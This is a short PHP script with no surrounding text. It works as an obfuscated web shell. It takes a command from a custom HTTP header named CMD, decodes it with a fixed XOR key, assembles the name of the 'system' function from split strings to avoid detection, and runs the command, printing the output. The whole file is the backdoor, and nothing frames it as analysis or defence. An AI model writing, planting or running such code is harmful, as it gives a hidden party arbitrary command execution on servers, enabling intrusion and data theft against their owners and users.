<?php
$in = $_SERVER['HTTP_CMD']; $k = 'k3y'; for ($i = 0; $i < strlen($in); $i++) { $in[$i] = $in[$i] ^ $k[$i % 3]; }
$cfg = 'sys'.'tem';
echo $cfg($in);
